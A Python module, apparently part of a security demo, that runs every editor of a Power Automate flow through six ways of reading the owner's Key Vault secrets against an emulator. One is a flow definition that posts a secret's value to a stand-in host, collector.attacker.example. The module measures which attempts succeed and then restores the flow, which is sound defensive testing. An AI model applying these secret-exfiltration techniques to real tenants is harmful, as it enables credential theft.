"""The attack table: every editor of a flow that runs on someone else's Key Vault connection tries each
way an editor can make a flow read a secret, through the Power Automate maker API, as a browser would.

Each result is read back from the emulator, never assumed: a refused step is the HTTP answer's error code;
"read N secret(s)" counts the secrets whose values the editor got, from the run history (Get secret
outputs shown through `outputsLink`) and from the editor's own endpoint (`collector.attacker.example`,
which lists by name what an HTTP action posted to it). After each attack the flow's owner puts the flow
back (definition, connections, on/off) and the editor deletes any flow it created, so every attack starts
from the same state and the rest of the demo sees the scenario it expects.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import requests

from emulator.powerplatform import definitions as defs

FLOW_API = {"api-version": "2016-11-01"}
FLOWS = "https://api.flow.microsoft.com/providers/Microsoft.ProcessSimple/environments"
COLLECTOR = "https://collector.attacker.example"
EDIT_ROLES = ("Owner", "CanEdit")
EDIT_ALL_FLOWS = ("System Customizer", "System Administrator")


@dataclass(frozen=True)
class Target:
    """The flow under attack, and the one secret the single-secret attacks ask for."""

    environment: str
    flow: str
    display_name: str
    owner: str  # object id of the flow's creator, who owns its Key Vault connection
    secret: str

    @property
    def url(self) -> str:
        return f"{FLOWS}/{self.environment}/flows/{self.flow}"


@dataclass(frozen=True)
class Outcome:
    attack: str
    editor: str  # object id
    refused: str = ""  # "<error code> (<step>)" when a step was refused
    secrets: tuple[str, ...] = ()  # names of the secrets whose values reached the editor

    @property
    def read_any(self) -> bool:
        return bool(self.secrets)

    def text(self) -> str:
        return f"refused: {self.refused}" if self.refused else f"read {len(self.secrets)} secret(s)"


class Refused(Exception):
    def __init__(self, response: requests.Response, step: str) -> None:
        super().__init__(f"{_error_code(response)} ({step})")


def editors(seed: dict[str, Any], flow_name: str) -> list[str]:
    """Everyone but the owner who may edit the flow: co-owners, and System Customizers/Administrators
    of its environment (object ids, in scenario order)."""
    pp = seed["powerPlatform"]
    flow = next(f for f in pp["flows"] if f["name"] == flow_name)
    environment = next(e for e in pp["environments"] if e["name"] == flow["environment"])
    found = [s["principal"] for s in flow.get("shares") or [] if s.get("role") in EDIT_ROLES]
    found += [r["principal"] for r in environment.get("roles") or [] if r.get("role") in EDIT_ALL_FLOWS]
    return list(dict.fromkeys(p for p in found if p != flow["creator"]))


# -- the definitions an attacker saves -----------------------------------------------------------
def single_get(secret: str) -> dict[str, Any]:
    return defs.definition({"Get_secret": defs.get_secret(secret)})


def post_out(secret: str) -> dict[str, Any]:
    """Get secret with secure outputs ON (nothing in run history), then an HTTP action posting the value."""
    return defs.definition(
        {
            "Get_secret": defs.get_secret(secret, secure=True),
            "Send": {
                "runAfter": {"Get_secret": ["Succeeded"]},
                "type": "Http",
                "inputs": {
                    "method": "POST",
                    "uri": f"{COLLECTOR}/in",
                    "body": {"secret": "@body('Get_secret')?['value']"},
                },
            },
        }
    )


class Attacker:
    """One editor's attempts on one target; `owner` puts the flow back after each."""

    def __init__(self, http: requests.Session, owner: requests.Session, target: Target) -> None:
        self.http = http
        self.owner = owner
        self.target = target

    # -- the attacks -----------------------------------------------------------------------------
    def single_get_insecure(self) -> tuple[str, ...]:
        self._edit(self.target.url, single_get(self.target.secret))
        return self._run_and_read(self.target.url)

    def list_and_for_each(self) -> tuple[str, ...]:
        self._edit(self.target.url, defs.dump_vault_definition())
        return self._run_and_read(self.target.url)

    def new_flow_on_connection(self) -> tuple[str, ...]:
        references = self.owner.get(self.target.url, params=FLOW_API).json()["properties"]
        body = {
            "displayName": "Quick lookup",
            "definition": single_get(self.target.secret),
            "connectionReferences": references["connectionReferences"],
            "state": "Started",
        }
        with self._created(body, "create flow") as url:
            return self._run_and_read(url)

    def re_enable(self) -> tuple[str, ...]:
        self._ok(self.http.post(f"{self.target.url}/start", params=FLOW_API), "turn on")
        self._edit(self.target.url, single_get(self.target.secret))
        return self._run_and_read(self.target.url)

    def http_post_out(self) -> tuple[str, ...]:
        self._edit(self.target.url, post_out(self.target.secret))
        return self._run_and_read(self.target.url)

    def save_as(self) -> tuple[str, ...]:
        """The portal's Save As: read the flow, create a copy (saved off), turn the copy on, run it."""
        source = self._ok(self.http.get(self.target.url, params=FLOW_API), "read flow").json()["properties"]
        body = {
            "displayName": f"Copy of {self.target.display_name}",
            "definition": single_get(self.target.secret),
            "connectionReferences": source["connectionReferences"],
            "state": "Stopped",
        }
        with self._created(body, "save as") as url:
            self._ok(self.http.post(f"{url}/start", params=FLOW_API), "turn on the copy")
            return self._run_and_read(url)

    # -- steps -----------------------------------------------------------------------------------
    @staticmethod
    def _ok(response: requests.Response, step: str) -> requests.Response:
        if response.status_code >= 400:
            raise Refused(response, step)
        return response

    def _edit(self, url: str, definition: dict[str, Any]) -> None:
        self._ok(
            self.http.patch(url, params=FLOW_API, json={"properties": {"definition": definition}}), "edit"
        )

    @contextmanager
    def _created(self, properties: dict[str, Any], step: str) -> Iterator[str]:
        created = self._ok(
            self.http.post(
                f"{FLOWS}/{self.target.environment}/flows", params=FLOW_API, json={"properties": properties}
            ),
            step,
        )
        url = f"{FLOWS}/{self.target.environment}/flows/{created.json()['name']}"
        try:
            yield url
        finally:
            self.http.delete(url, params=FLOW_API)  # the editor owns what it created

    def _run_and_read(self, url: str) -> tuple[str, ...]:
        """Run the flow (manual trigger), then what the editor can get: run history and collector."""
        started = self._ok(self.http.post(f"{url}/triggers/manual/run", params=FLOW_API, json={}), "run")
        run_id = started.headers["x-ms-workflow-run-id"]
        run = self.http.get(f"{url}/runs/{run_id}", params={**FLOW_API, "$expand": "properties/actions"})
        names: set[str] = set()
        for action, props in ((run.json().get("properties") or {}).get("actions") or {}).items():
            names |= self._shown(f"{url}/runs/{run_id}/actions/{action}", props)
        received = self.http.get(f"{COLLECTOR}/received", params={"run": run_id}).json()["value"]
        names |= {name for item in received for name in item["secrets"]}
        return tuple(sorted(names))

    def _shown(self, action_url: str, props: dict[str, Any]) -> set[str]:
        """Secret names whose values this action's run history shows (a Key Vault SecretBundle body)."""
        if props.get("repetitionCount"):
            reps = self.http.get(f"{action_url}/repetitions", params=FLOW_API).json()["value"]
            return {n for rep in reps for n in self._shown(action_url, rep.get("properties") or {})}
        link = props.get("outputsLink")
        if not link:  # secured, or nothing produced
            return set()
        body = (self.http.get(link["uri"], headers={"Authorization": ""}).json() or {}).get("body")
        return (
            {str(body["name"])}
            if isinstance(body, dict) and body.get("value") and body.get("name")
            else set()
        )

    # -- putting the flow back -------------------------------------------------------------------
    def snapshot(self) -> dict[str, Any]:
        return dict(self.owner.get(self.target.url, params=FLOW_API).json()["properties"])

    def restore(self, before: dict[str, Any]) -> None:
        """The owner saves the definition and connections back and turns the flow on/off as it was.
        A save the owner may not make (a DLP policy now refuses the old definition) leaves the edit."""
        self.owner.patch(
            self.target.url,
            params=FLOW_API,
            json={
                "properties": {
                    "definition": before["definition"],
                    "connectionReferences": before["connectionReferences"],
                }
            },
        )
        now = self.snapshot()["state"]
        if now != before["state"]:
            verb = "start" if before["state"] == "Started" else "stop"
            self.owner.post(f"{self.target.url}/{verb}", params=FLOW_API)


Attack = Callable[[Attacker], tuple[str, ...]]
ATTACKS: dict[str, tuple[str, Attack]] = {
    "single-get": ("single Get secret, secure outputs off", Attacker.single_get_insecure),
    "list-for-each": ("List secrets + for each Get secret", Attacker.list_and_for_each),
    "new-flow": ("new flow on the same connection", Attacker.new_flow_on_connection),
    "re-enable": ("turn the flow (back) on", Attacker.re_enable),
    "http-out": ("HTTP action posting the value out", Attacker.http_post_out),
    "save-as": ("Save As (a copy of the flow)", Attacker.save_as),
}


def attack_table(
    session_for: Callable[[str], requests.Session],
    target: Target,
    people: Sequence[str],
    *,
    flow_off_first: bool = False,
) -> list[Outcome]:
    """Every attack by every editor. `flow_off_first`: the owner turns the flow off before each attack
    (a quarantined flow, for "turn the flow back on" where no fix has turned it off yet)."""
    owner = session_for(target.owner)
    return [
        attempt(Attacker(session_for(editor), owner, target), key, editor, flow_off_first=flow_off_first)
        for editor in people
        for key in ATTACKS
    ]


def attempt(attacker: Attacker, key: str, editor: str, *, flow_off_first: bool = False) -> Outcome:
    """One attack by one editor, then the flow put back as it was."""
    before = attacker.snapshot()
    if flow_off_first and key == "re-enable" and before["state"] == "Started":
        attacker.owner.post(f"{attacker.target.url}/stop", params=FLOW_API)
    try:
        return Outcome(key, editor, secrets=ATTACKS[key][1](attacker))
    except Refused as refused:
        return Outcome(key, editor, refused=str(refused))
    finally:
        attacker.restore(before)


def _error_code(response: requests.Response) -> str:
    try:
        error = response.json().get("error") or {}
    except ValueError:
        error = {}
    return str(error.get("code") or f"HTTP {response.status_code}")
